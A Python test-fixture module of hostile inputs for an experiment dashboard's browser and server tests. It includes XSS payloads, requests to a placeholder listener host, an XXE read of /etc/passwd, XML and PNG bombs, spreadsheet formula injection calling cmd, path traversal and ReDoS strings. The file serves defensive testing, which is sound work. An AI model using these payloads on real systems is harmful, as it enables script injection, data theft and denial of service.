"""What somebody who means harm would log: data for tests/browser/test_hostile.py and tests/server/test_hostile.py.

Every payload has a number of its own, written into it wherever these words stand:

    RAN()     a call that tells the test that a script ran where none may
    OUT       an address of another origin where somebody listens
    HOST      the same without its scheme and path
    SEEN      a harmless word that has to be shown, whatever becomes of the rest

`fires` says what happens where nothing protects the reader, which the tests prove: "ran" (a script ran), "asked"
(a request left), "dialog", "popup", "download", "layout" (the page broke), "" (nothing that a page without protection shows).
"""

# ruff: noqa: E501
from __future__ import annotations

import dataclasses
import itertools
import json
import struct
import zlib

_numbers = itertools.count(101)


@dataclasses.dataclass(frozen=True)
class Payload:
    name: str
    family: str
    source: str | bytes
    fires: str = ""
    number: int = dataclasses.field(default_factory=lambda: next(_numbers))

    @property
    def seen(self) -> str:
        return f"harmless{self.number}z"

    def text(self, host: str) -> str:
        assert isinstance(self.source, str)
        return self._filled(self.source, host)

    def data(self, host: str) -> bytes:
        if isinstance(self.source, str):
            return self.text(host).encode("utf-8", "surrogatepass")
        return self._filled(self.source.decode("latin-1"), host).encode("latin-1")

    def _filled(self, source: str, host: str) -> str:
        filled = source.replace("RAN()", f"pwned({self.number})").replace("SEEN", self.seen)
        return filled.replace("OUT", f"http://{host}/{self.number}").replace("HOST", host)


def _family(family: str, *listed: tuple[str, str | bytes, str]) -> tuple[Payload, ...]:
    return tuple(Payload(name, family, source, fires) for name, source, fires in listed)


# ---- text: Markdown, and HTML inside of it

TEXT = _family(
    "text",
    ("script", "SEEN <script>RAN()</script>", "ran"),
    ("script in capitals", "SEEN <ScRiPt>RAN()</sCrIpT>", "ran"),
    ("script with a slash", "SEEN <script/x>RAN()</script/x>", "ran"),
    ("script from elsewhere", "SEEN <script src=OUT></script>", "asked"),
    ("script inside of a tag that is dropped", "SEEN <scr<b>ipt>RAN()</scr</b>ipt>", ""),
    ("image that fails", "SEEN <img src=x: onerror=RAN()>", "ran"),
    ("image that fails, quotes and slashes", 'SEEN\n\n<p><img/src="x:"/onerror="RAN()"/></p>', "ran"),
    ("image that fails, line break in the tag", "SEEN\n\n<img\nsrc=x:\nonerror\n=\nRAN()>", "ran"),
    ("image that fails, entities in the handler", "SEEN <img src=x: onerror=&#82;&#x41;RAN()//>", ""),
    ("image that fails, unclosed", "SEEN <img src=x: onerror=RAN() ", ""),
    ("image with a broken attribute", 'SEEN <img """><script>RAN()</script>">', "ran"),
    ("image of elsewhere", "SEEN ![a picture](OUT)", "asked"),
    ("image of elsewhere without a scheme", "SEEN ![a picture](//HOST/SEEN)", "asked"),
    ("image of elsewhere with backslashes", "SEEN <img src='\\\\HOST\\SEEN'>", "asked"),
    ("image set", "SEEN <img srcset='OUT 1x'>", "asked"),
    ("image in a picture", "SEEN <picture><source srcset=OUT><img></picture>", "asked"),
    ("image loaded lazily", "SEEN <img loading=eager fetchpriority=high src=OUT>", "asked"),
    ("image that is SVG", "SEEN ![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", ""),
    ("body with a handler", "SEEN\n\n<body onload=RAN()>", "ran"),
    ("svg with a handler", "SEEN <svg onload=RAN()>", "ran"),
    ("svg with a script", "SEEN <svg><script>RAN()</script></svg>", "ran"),
    ("svg animation", "SEEN <svg><animate onbegin=RAN() attributeName=x dur=1s>", "ran"),
    ("svg set on a link", "SEEN <svg><a><set attributeName=href to=javascript:RAN() /><text y=9>x</text></a></svg>", ""),
    ("svg use of elsewhere", "SEEN <svg><image href=OUT /></svg>", "asked"),
    ("math with a link", "SEEN <math><maction actiontype=statusline xlink:href=javascript:RAN()>x</maction></math>", ""),
    ("iframe", "SEEN <iframe src=OUT></iframe>", "asked"),
    ("iframe with its page inside", "SEEN <iframe srcdoc='<script>parent.RAN()</script>'></iframe>", "ran"),
    ("iframe of a script", "SEEN <iframe src=javascript:parent.RAN()></iframe>", "ran"),
    ("object", "SEEN <object data=OUT></object>", "asked"),
    ("embed", "SEEN <embed src=OUT>", "asked"),
    ("form with a button elsewhere", "SEEN <form action=javascript:RAN()><button autofocus>Go</button></form>", ""),
    ("input that takes the focus", "SEEN <input onfocus=RAN() autofocus>", "ran"),
    ("details that open", "SEEN <details open ontoggle=RAN()>x</details>", "ran"),
    ("marquee", "SEEN <marquee onstart=RAN()>x</marquee>", ""),
    ("video that fails", "SEEN <video><source onerror=RAN() src=x:></video>", "ran"),
    ("audio of elsewhere", "SEEN <audio src=OUT autoplay></audio>", "asked"),
    ("style element", "SEEN\n\n<style>body{background:url(OUT)}</style>", "asked"),
    ("style element that imports", "SEEN\n\n<style>@import 'OUT';</style>", "asked"),
    ("style that covers the page", "SEEN <div style='position:fixed;inset:0;z-index:99999;background:red'>x</div>", "layout"),
    ("style of a cell", "| a |\n|---|\n| SEEN <p style='position:fixed;inset:0;z-index:9999'>x</p> |", "layout"),
    ("style with an address", "SEEN <p style='background:url(OUT)'>x</p>", "asked"),
    ("wide table", "SEEN <table width=90000><tr><td nowrap style='min-width:90000px'>x</table>", "layout"),
    ("classes of the board", "SEEN <div class='dialog top-bar popover' id=app>x</div>", ""),
    ("names of the document", "SEEN <a id=location name=cookie>x</a><img name=body><form name=getElementById>", ""),
    ("link element", "SEEN <link rel=stylesheet href=OUT>", "asked"),
    ("link that fetches ahead", "SEEN <link rel=prefetch href=OUT><link rel=preload as=image href=OUT>", "asked"),
    ("link that connects ahead", "SEEN <link rel=preconnect href=http://ahead.HOST>", "asked"),
    ("meta refresh", "SEEN <meta http-equiv=refresh content='0;url=OUT'>", "asked"),
    ("base", "SEEN <base href=OUT/><img src=relative>", "asked"),
    ("script link", "SEEN [press](javascript:RAN())", "ran"),
    ("script link in capitals", "SEEN [press](JaVaScRiPt:RAN())", "ran"),
    ("script link with a tab", "SEEN <a href='java&#9;script:RAN()'>press</a>", "ran"),
    ("script link with a line break", "SEEN <a href='java\nscript:RAN()'>press</a>", "ran"),
    ("script link after a control character", "SEEN <a href='\x01javascript:RAN()'>press</a>", "ran"),
    ("script link of entities", "SEEN <a href='&#106;avascript&colon;RAN()'>press</a>", "ran"),
    ("script link as a reference", "SEEN [press][1]\n\n[1]: javascript:RAN()", "ran"),
    ("script link, automatic", "SEEN <javascript:RAN()>", ""),
    ("data link", "SEEN [press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", ""),
    ("vbscript link", "SEEN [press](vbscript:msgbox(1))", ""),
    ("link with a title that ends it", "SEEN [press](http://a.example '\"onmouseover=RAN() x=\"')", ""),
    ("link with a ping", "SEEN <a href=# ping=OUT>press</a>", "asked"),
    ("link that opens a window", "SEEN <a href=OUT target=_top onclick=RAN()>press</a>", "ran"),
    ("code fence that ends early", "SEEN\n\n```\n</code></pre><script>RAN()</script>\n```", ""),
    ("code fence with a language", 'SEEN\n\n```"><script>RAN()</script>\nx\n```', ""),
    ("comment that ends early", "SEEN <!--><script>RAN()</script>-->", "ran"),
    ("comment with a dash and a bang", "SEEN <!-- --!><script>RAN()</script> -->", "ran"),
    ("conditional comment", "SEEN <!--[if true]><script>RAN()</script><![endif]-->", ""),
    ("processing instruction", "SEEN <?xml <script>RAN()</script> ?>", ""),
    ("character data", "SEEN <![CDATA[<script>RAN()</script>]]>", ""),
    ("mutation: noscript", "SEEN <noscript><p title='</noscript><img src=x: onerror=RAN()>'>", "ran"),
    ("mutation: style in math", "SEEN <math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x: onerror=RAN()&gt;'>", ""),
    ("mutation: form in math", "SEEN <form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=RAN()>", ""),
    ("mutation: svg style", "SEEN <svg></p><style><a id='</style><img src=x: onerror=RAN()>'>", "ran"),
    ("mutation: textarea", "SEEN <textarea><p title='</textarea><img src=x: onerror=RAN()>'>", "ran"),
    ("mutation: xmp", "SEEN <xmp><p title='</xmp><img src=x: onerror=RAN()>'>", "ran"),
    ("mutation: template", "SEEN <template><script>RAN()</script></template>", ""),
    ("mutation: select", "SEEN <select><template><style><!--</style><a rel='--></style></template></select><img src=x: onerror=RAN()>'>", ""),
    ("mutation: plaintext", "SEEN <a title='<plaintext>'><img src=x: onerror=RAN()>", "ran"),
    ("namespace: foreign object", "SEEN <svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload=RAN()><img src=x: onerror=RAN()>", "ran"),
    ("namespace: annotation", "SEEN <math><annotation-xml encoding=text/html><img src=x: onerror=RAN()></annotation-xml></math>", "ran"),
    ("namespace: prefixed", "SEEN <x:script xmlns:x='http://www.w3.org/1999/xhtml'>RAN()</x:script>", ""),
    ("entities written twice", "SEEN &amp;lt;script&amp;gt;RAN()&amp;lt;/script&amp;gt; &lt;img src=x: onerror=RAN()&gt;", ""),
    ("null characters", "SEEN <scr\0ipt>RAN()</scr\0ipt><img src=x: o\0nerror=RAN()>", ""),
    ("shadow root", "SEEN <div><template shadowrootmode=open><img src=x: onerror=RAN()></template></div>", "ran"),
    ("custom element with is", "SEEN <p is=x-y onclick=RAN() tabindex=1 autofocus onfocus=RAN()>x</p>", "ran"),
    ("popover", "SEEN <button popovertarget=p>x</button><div popover id=p onbeforetoggle=RAN()>x</div>", ""),
    ("content visibility", "SEEN <p style='content-visibility:auto' oncontentvisibilityautostatechange=RAN()>x</p>", "ran"),
    ("transition end", "SEEN <style>@keyframes k{}</style><p style='animation:k 1ms' onanimationend=RAN()>x</p>", "ran"),
    ("word of 10,000 letters", "SEEN " + "W" * 10_000, "layout"),
    ("right-to-left override", "SEEN \u202e\u2066txt.exe\u202e \u200f\u200b\ufeff", ""),
    ("marks piled up", "SEEN " + "Z" + "\u0351\u036b\u0343\u036a" * 300, ""),
    ("flags and families", "SEEN " + "👩‍👩‍👧‍👦🏴‍☠️\U0001f1e8\U0001f1f3" * 200, ""),
    ("control characters", "SEEN \x07\x08\x1b[31mred\x1b]0;title\x07\x7f\x85", ""),
    ("brackets in brackets", "SEEN " + "[" * 3000 + "]" * 3000, ""),
    ("quotes in quotes", "SEEN\n\n" + "> " * 400 + "deep", ""),
)  # fmt: skip

# ---- HTML: its scripts may run, in a frame that shuts them off; they report when they reach anything

_TRY = "<p>SEEN</p><script>try{%s}catch(e){}</script>"
HTML = _family(
    "html",
    ("window around it", _TRY % "parent.document.title='taken';RAN()", "ran"),
    ("page around it", _TRY % "top.document.body.innerHTML='taken';RAN()", "ran"),
    ("address of the window", _TRY % "top.location='OUT'", "asked"),
    ("address of the window by name", _TRY % "open('OUT','_top')", "asked"),
    ("address of the window by a link", "<p>SEEN</p><a id=a target=_top href=OUT>x</a><script>a.click()</script>", "asked"),
    ("address of itself", "<p>SEEN</p><script>setTimeout(()=>{location='OUT'},50)</script>", "asked"),
    ("address of itself by a script", _TRY % "location='javascript:parent.RAN()'", "ran"),
    ("address of itself as data", _TRY % "location='data:text/html,<script>fetch(`OUT`)</'+'script>'", "asked"),
    ("meta refresh", "<p>SEEN</p><meta http-equiv=refresh content='0;url=OUT'>", "asked"),
    ("back in the history", _TRY % "for(let i=0;i<9;i++)history.pushState(0,'');history.go(-12);history.back()", ""),
    ("cookies", _TRY % "document.cookie='a=1';if(document.cookie)RAN()", "ran"),
    ("cookies that wait", _TRY % "cookieStore.set('a','1').then(()=>RAN())", "ran"),
    ("local storage", _TRY % "localStorage.x=1;RAN()", "ran"),
    ("session storage", _TRY % "sessionStorage.x=1;RAN()", "ran"),
    ("database", _TRY % "indexedDB.open('x').onsuccess=()=>RAN()", "ran"),
    ("caches", _TRY % "caches.open('x').then(()=>RAN())", "ran"),
    ("locks", _TRY % "navigator.locks.request('x',()=>RAN())", "ran"),
    ("files of the origin", _TRY % "navigator.storage.getDirectory().then(()=>RAN())", "ran"),
    ("service worker", _TRY % "navigator.serviceWorker.register('/worker.js').then(()=>RAN(),()=>0)", "ran"),
    ("channel to other pages", _TRY % "const c=new BroadcastChannel('x');c.postMessage('taken')", ""),
    ("messages that pretend", _TRY % "for(let i=0;i<99;i++)parent.postMessage({lightboard:'plotly',ready:true,drawn:1},'*')", ""),
    ("fetch from the board", _TRY % "fetch('/api/board',{credentials:'include'}).then(a=>a.text()).then(()=>RAN())", "ran"),
    ("write to the board", _TRY % "fetch('/api/views',{method:'POST',body:'{}',mode:'no-cors'}).then(()=>RAN())", "ran"),
    ("fetch", _TRY % "fetch('OUT',{mode:'no-cors'})", "asked"),
    ("request of old", _TRY % "const x=new XMLHttpRequest();x.open('GET','OUT');x.send()", "asked"),
    ("socket", _TRY % "new WebSocket('ws://HOST/SEEN')", "asked"),
    ("event source", _TRY % "new EventSource('OUT')", "asked"),
    ("beacon", _TRY % "navigator.sendBeacon('OUT','x')", "asked"),
    ("peer connection", _TRY % "const p=new RTCPeerConnection({iceServers:[{urls:'stun:HOST'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))", ""),
    ("image", "<p>SEEN</p><img src=OUT>", "asked"),
    ("image by a script", _TRY % "new Image().src='OUT'", "asked"),
    ("film, sound and track", "<p>SEEN</p><video src=OUT autoplay></video><audio src=OUT autoplay></audio>", "asked"),
    ("style sheet", "<p>SEEN</p><link rel=stylesheet href=OUT>", "asked"),
    ("style that imports", "<style>@import 'OUT';</style><p>SEEN</p>", "asked"),
    ("style with an address", "<style>p{background:url(OUT)}</style><p>SEEN</p>", "asked"),
    ("font", "<style>@font-face{font-family:f;src:url(OUT)}p{font-family:f}</style><p>SEEN</p>", "asked"),
    ("fetch ahead", "<link rel=prefetch href=OUT><link rel=preload as=script href=OUT><p>SEEN</p>", "asked"),
    ("module ahead", "<link rel=modulepreload href=OUT><p>SEEN</p>", "asked"),
    ("connect ahead", "<link rel=preconnect href=http://ahead.HOST><p>SEEN</p>", "asked"),
    ("names ahead", "<link rel=dns-prefetch href=//names.example><a href=//names.example>x</a><p>SEEN</p>", ""),
    ("speculation", '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["OUT"],"eagerness":"immediate"}]}</script><p>SEEN</p>', ""),
    ("icon and manifest", "<link rel=icon href=OUT><link rel=manifest href=OUT><p>SEEN</p>", ""),
    ("script", "<p>SEEN</p><script src=OUT></script>", "asked"),
    ("module", "<p>SEEN</p><script type=module>import('OUT')</script>", "asked"),
    ("worker", _TRY % "new Worker(URL.createObjectURL(new Blob([`fetch('OUT')`])))", "asked"),
    ("shared worker", _TRY % "new SharedWorker('OUT')", ""),
    ("frame inside", "<p>SEEN</p><iframe src=OUT></iframe>", "asked"),
    ("frame inside with its own page", "<p>SEEN</p><iframe srcdoc=\"<script>try{top.document.title='x';RAN()}catch(e){}</script>\"></iframe>", "ran"),
    ("frame of memory", _TRY % "const f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob(['<img src=OUT>'],{type:'text/html'}));document.body.append(f)", "asked"),
    ("object and embed", "<p>SEEN</p><object data=OUT></object><embed src=OUT>", "asked"),
    ("form", "<p>SEEN</p><form id=f action=OUT><input name=a></form><script>f.submit()</script>", "asked"),
    ("form into a window", "<p>SEEN</p><form id=f target=_blank action=OUT></form><script>f.submit()</script>", "asked"),
    ("window", _TRY % "open('OUT')", "popup"),
    ("window by a link", "<p>SEEN</p><a id=a target=_blank href=OUT>x</a><script>a.click()</script>", "popup"),
    ("download", "<p>SEEN</p><a id=a download=x.exe href=data:,x>x</a><script>a.click()</script>", "download"),
    ("ping", "<p>SEEN</p><a id=a href=# ping=OUT>x</a><script>a.click()</script>", "asked"),
    ("alert", _TRY % "alert(1)", "dialog"),
    ("confirm and prompt", _TRY % "confirm('Sure?');prompt('Password?')", "dialog"),
    ("question on leaving", _TRY % "onbeforeunload=e=>e.preventDefault()", ""),
    ("policy of its own", "<meta http-equiv=Content-Security-Policy content='default-src *'><p>SEEN</p><img src=OUT>", "asked"),
    ("base", "<base href=OUT/><p>SEEN</p><img src=x>", "asked"),
    ("report of what was refused", "<meta http-equiv=Content-Security-Policy content='img-src none;report-uri OUT'><p>SEEN</p><img src=x:>", ""),
    ("domain", _TRY % "document.domain='example';parent.document.title;RAN()", ""),
    ("full screen", _TRY % "document.documentElement.requestFullscreen().then(()=>RAN())", ""),
    ("clipboard", _TRY % "navigator.clipboard.readText().then(()=>RAN())", ""),
    ("focus", "<p>SEEN</p><input autofocus id=i><script>focus();i.focus()</script>", ""),
    ("cover", "<style>html,body,p{position:fixed;inset:0;z-index:2147483647;margin:0;background:red}</style><p>SEEN</p>", "layout"),
    ("wide and high", "<p style='width:90000px;height:90000px'>SEEN</p>", "layout"),
    ("unfinished", "<p>SEEN</p><script>/*<div title='", ""),
    ("other encoding", "<meta charset=utf-7><p>SEEN</p>+ADw-script+AD4-parent.RAN()+ADw-/script+AD4-", ""),
)  # fmt: skip

# ---- pictures

_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="60">%s'
_SVG += '<rect width="80" height="60" fill="#123456"/></svg>'
SVG = _family(
    "svg",
    ("script", _SVG % "<script>RAN()</script>", "ran"),
    ("script from elsewhere", _SVG % '<script href="OUT"/>', "asked"),
    ("script as character data", _SVG % "<script><![CDATA[RAN()]]></script>", "ran"),
    ("handler", _SVG.replace("<svg ", '<svg onload="RAN()" ', 1) % "", "ran"),
    ("handler of an animation", _SVG % '<animate onbegin="RAN()" attributeName="x" dur="1s"/>', "ran"),
    ("animation of a link", _SVG % '<a id="a"><animate attributeName="href" values="javascript:RAN()"/><text y="9">x</text></a>', ""),
    ("foreign object", _SVG % '<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="x:" onerror="RAN()"/></foreignObject>', "ran"),
    ("foreign frame", _SVG % '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="OUT"/></foreignObject>', "asked"),
    ("image", _SVG % '<image href="OUT" width="9" height="9"/>', "asked"),
    ("use", _SVG % '<use href="OUT#x"/>', ""),
    ("style that imports", _SVG % "<style>@import 'OUT';</style>", "asked"),
    ("style with an address", _SVG % '<circle r="9" style="filter:url(OUT#x);fill:url(OUT#y)"/>', ""),
    ("font", _SVG % '<style>@font-face{font-family:f;src:url(OUT)}</style><text y="9" font-family="f">x</text>', "asked"),
    ("style sheet instruction", '<?xml version="1.0"?><?xml-stylesheet href="OUT" type="text/css"?>' + _SVG % "", ""),
    ("entities", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "RAN()">]>' + _SVG % "<script>&x;</script>", "ran"),
    ("entities of a file", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + _SVG % "<text>&x;</text>", ""),
    ("billion laughs", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha">' + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9)) + "]>" + _SVG % "<text>&j;</text>", ""),
    ("set on the root", _SVG % '<set attributeName="onmouseover" to="RAN()"/><handler type="text/ecmascript">RAN()</handler>', ""),
    ("picture without end", _SVG.replace('width="80" height="60"', 'width="1e9" height="1e9"', 1) % "", ""),
    ("dear filters", _SVG % ('<filter id="f">' + '<feGaussianBlur stdDeviation="99"/>' * 50 + '</filter><rect width="80" height="60" filter="url(#f)"/>'), ""),
)  # fmt: skip


def _chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def _png(width: int, height: int, packed: bytes, *more: bytes) -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + _chunk(b"IDAT", packed) + _chunk(b"IEND", b"")


def _bomb(size: int) -> bytes:
    """Black, of so many pixels each way: a few kilobytes that become megabytes."""
    return _png(size, size, zlib.compress(bytes((1 + 3 * size) * size), 1))


_SMALL = zlib.compress((b"\0" + b"\x12\x34\x56" * 80) * 60)
_GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x12\x34\x56\xff\xff\xff,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)
IMAGES = _family(
    "images",
    ("page called a picture", b"<!doctype html><script>RAN()</script>SEEN", "ran"),
    ("page after spaces", b" \t\n<html><body onload=RAN()>", "ran"),
    ("script called a picture", b"RAN();", ""),
    ("GIF that is a script", b"GIF89a=1;RAN();/*" + _GIF[6:] + b"*/", ""),
    ("GIF with a page at its end", _GIF + b"<script>RAN()</script>", ""),
    ("PNG with a page inside", _png(80, 60, _SMALL, _chunk(b"tEXt", b"Comment\0<script>alert(1)</script>")), ""),
    ("BMP that is a script", b"BM=1;RAN();//" + bytes(60), ""),
    ("JPEG with a page in its comment", b"\xff\xd8\xff\xfe\x00\x20<script>RAN()</script>\xff\xd9", ""),
    ("SVG after a mark and spaces", b"\xef\xbb\xbf \n<svg onload='RAN()' xmlns='http://www.w3.org/2000/svg'/>", ""),
    ("SVG in sixteen bits", "\ufeff<svg xmlns='http://www.w3.org/2000/svg' onload='RAN()'/>".encode("utf-16-le"), ""),
    ("SVG behind a long comment", b"<!--" + b"x" * 9000 + b"--><svg xmlns='http://www.w3.org/2000/svg' onload='RAN()'/>", ""),
    ("XML with a style sheet", b"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='OUT'?><x/>", ""),
    ("XHTML", b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>RAN()</script></html>", ""),
    ("PDF", b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj", ""),
    ("archive of a page", b"MIME-Version: 1.0\nContent-Type: multipart/related;boundary=x\n\n--x\nContent-Type: text/html\n\n<script>RAN()</script>", ""),
    ("PostScript", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%touch x) (w) file", ""),
    ("PNG that claims 60,000 pixels each way", _png(60_000, 60_000, zlib.compress(bytes(1000))), ""),
    ("PNG that becomes 12 MB", _bomb(2000), ""),
    ("PNG of packed nothing", _png(80, 60, zlib.compress(bytes(9_000_000), 1)), ""),
    ("PNG with a packed text of 20 MB", _png(80, 60, _SMALL, _chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(20_000_000), 1))), ""),
    ("GIF of 65,535 pixels each way", b"GIF89a\xff\xff\xff\xff" + _GIF[10:], ""),
)  # fmt: skip

# ---- names: of tags, runs, remarks, columns, hyperparameters, cells

NAMES = _family(
    "names",
    ("image", "SEEN<img src=x: onerror=RAN()>", "ran"),
    ("script", 'SEEN"><script>RAN()</script>', "ran"),
    ("handler", "SEEN' onmouseover=RAN() autofocus onfocus=RAN() x='", ""),
    ("svg", "SEEN<svg onload=RAN()>", "ran"),
    ("frame", "SEEN<iframe src=OUT>", "asked"),
    ("style", "SEEN<style>*{display:none!important}</style>", ""),
    ("cover", "SEEN<div style='position:fixed;inset:0;z-index:99999;background:red'>", "layout"),
    ("templates", "SEEN{{constructor.constructor('RAN()')()}}${RAN()}#{RAN()}<%=RAN()%>", ""),
    ("address of a script", "javascript:RAN()//SEEN", ""),
    ("address", "http://HOST/SEEN", ""),
    ("entities", "SEEN&lt;img src=x: onerror=RAN()&gt;&#60;script&#62;&quot;&apos;", ""),
    ("selectors", 'SEEN"]*,[data-x="\\"\\a{}', ""),
    ("prototype", "__proto__", ""),
    ("constructor", "constructor", ""),
    ("to string", "toString", ""),
    ("up", "../../../../etc/passwd/SEEN", ""),
    ("up in percent", "..%2f..%2fetc%2fpasswd%00SEEN", ""),
    ("up with backslashes", "..\\..\\windows\\SEEN", ""),
    ("device", "CON:SEEN|AUX*?<>", ""),
    ("null", "SEEN\0hidden.png", ""),
    ("controls", "SEEN\x01\x07\x1b[31m\x7f\u0085\u2028\u2029", ""),
    ("line breaks", "SEEN\r\nSet-Cookie: x=1\r\n\r\n<html>", ""),
    ("tabs", "SEEN\tTab\t\ttab", ""),
    ("right to left", "\u202eSEEN\u202c gpj.exe \u2067\u0645\u0631\u062d\u0628\u0627", ""),
    ("isolates left open", "\u2066\u2067\u2068\u202a\u202bSEEN", ""),
    ("nothing to see", "\u200b\u200c\u200d\u2060\ufeff\u00adSEEN\u200b", ""),
    ("look-alikes", "SEEN l\u03bfss \u0430cc", ""),
    ("long word", "SEEN" + "W" * 10_000, "layout"),
    ("long path", "SEEN/" + "a/" * 900 + "end", ""),
    ("marks piled up", "SEENZ" + "\u0351\u036b\u0343\u036a" * 200, ""),
    ("pictures", "SEEN👩‍👩‍👧‍👦🏴‍☠️🇨🇳🧑🏿‍🚀", ""),
    ("half a character", "SEEN\ud83d", ""),
    ("wide letters", "SEEN𒐫﷽⸻" * 5, ""),
    ("formula", "=HYPERLINK(\"http://HOST/\",\"SEEN\")", ""),
    ("formula with a plus", "+SEEN+cmd|' /C calc'!A0", ""),
    ("formula with a minus", "-SEEN+cmd|' /C calc'!A0", ""),
    ("formula with an at", "@SUM(SEEN)*cmd|' /C calc'!A0", ""),
    ("regular expression", "(SEENa+)+$[", ""),
    ("replacement", "SEEN$&$1$`$'\\1", ""),
    ("view in the address", "SEEN#runs?x=1&full=a,b~1%25", ""),
)  # fmt: skip

# ---- figures, tables, labels, layouts

_LINK = "<a href='javascript:RAN()'>SEEN</a><img src=x: onerror=RAN()>"


def _figure(**layout: object) -> str:
    return json.dumps({"data": [{"y": [1, 3, 2], "name": "SEEN"}], "layout": {"showlegend": True, **layout}})


PLOTLY = _family(
    "plotly",
    ("title with markup", _figure(title={"text": f"title {_LINK}<script>RAN()</script>"}), ""),
    ("title with a link elsewhere", _figure(title={"text": "<a href='OUT' target='_top'>title</a>"}), ""),
    ("note with a link", _figure(annotations=[{"text": _LINK, "x": 1, "y": 1}]), ""),
    ("image of elsewhere", _figure(images=[{"source": "OUT", "xref": "paper", "yref": "paper", "x": 0, "y": 1, "sizex": 1, "sizey": 1}]), ""),
    ("image that is SVG", _figure(images=[{"source": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.RAN()'/>", "x": 0, "y": 1, "sizex": 1, "sizey": 1}]), ""),
    ("prototype", '{"data":[{"y":[1,2],"name":"SEEN","__proto__":{"x":1}}],"layout":{"showlegend":true,"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}}', ""),
    ("fonts with addresses", _figure(font={"family": "x;background:url(OUT)"}, title={"text": "<span style='background:url(OUT);position:fixed'>t</span>"}), ""),
    ("buttons and menus", _figure(updatemenus=[{"buttons": [{"label": _LINK, "method": "relayout", "args": ["title.text", _LINK]}]}]), ""),
    ("settings of its own", json.dumps({"data": [{"y": [1, 2], "name": "SEEN"}], "layout": {"showlegend": True}, "config": {"plotlyServerURL": "OUT", "showSendToCloud": True, "topojsonURL": "OUT", "displaylogo": True}}), ""),
)  # fmt: skip
BROKEN_PLOTLY = _family(
    "broken plotly",
    ("map from elsewhere", json.dumps({"data": [{"type": "scattergeo", "lon": [1], "lat": [1]}], "layout": {}}), ""),
    ("tiles from elsewhere", json.dumps({"data": [{"type": "scattermapbox", "lon": [1], "lat": [1]}], "layout": {"mapbox": {"style": "OUT"}}}), ""),
    ("nested without end", '{"data":' + "[" * 50_000 + "]" * 50_000 + "}", ""),
    ("page for a figure", "<script>RAN()</script>", ""),
)  # fmt: skip

LABELS = _family(
    "labels",
    ("script", "SEEN <script>RAN()</script>", "ran"),
    ("image of elsewhere", "SEEN ![x](OUT)", "asked"),
    ("script link", "SEEN [press](javascript:RAN())", "ran"),
    ("style", "SEEN <b style='position:fixed;inset:0;z-index:9999;background:red'>x</b>", "layout"),
    ("long word", "SEEN" + "W" * 10_000, "layout"),
)

NOTES = _family(
    "notes",
    ("script", "SEEN <script>RAN()</script><img src=x: onerror=RAN()>", "ran"),
    ("image of elsewhere", "SEEN ![x](OUT)", "asked"),
    ("script link", "SEEN [press](javascript:RAN()) [away](OUT)", "asked"),
    ("style", "SEEN <p style='position:fixed;inset:0;z-index:9999;background:red'>x</p>", "layout"),
    ("long word", "SEEN " + "W" * 10_000, "layout"),
)

# Patterns that take years where one steps back without end, for layouts of custom scalars.
PATTERNS = (
    "(a+)+$",
    "(a|a)*b",
    "(.*)*x",
    "([a-z]+)*1",
    "(x+x+)+y",
    "a{1,9999}{1,9999}",
    "(?:(?:a*)*)*",
    "\\",
    "(",
    "a" * 5000,
)

# JSON that is small and becomes large, deep or odd.
JSON_BOMBS = (
    b"[" * 100_000,
    b'{"a":' * 100_000,
    b"[" * 900 + b"]" * 900,
    b'{"columns":["a"],"rows":' + b"[" * 5000 + b"]" * 5000 + b"}",
    b'{"columns":' + b'["x"' + b',"x"' * 200_000 + b'],"rows":[[1]]}',
    b'{"rows":[[' + b"9" * 5000 + b"]]}",
    b'{"rows":[[1e999,-1e999,NaN,Infinity]]}',
    b'{"__proto__":{"x":[1]},"constructor":[1]}',
    b'"' + b"\\ud800" * 1000 + b'"',
    b"\xff\xfe" + "[1]".encode("utf-16-le"),
)

ALL = (*TEXT, *HTML, *SVG, *IMAGES, *NAMES, *PLOTLY, *BROKEN_PLOTLY, *LABELS, *NOTES)
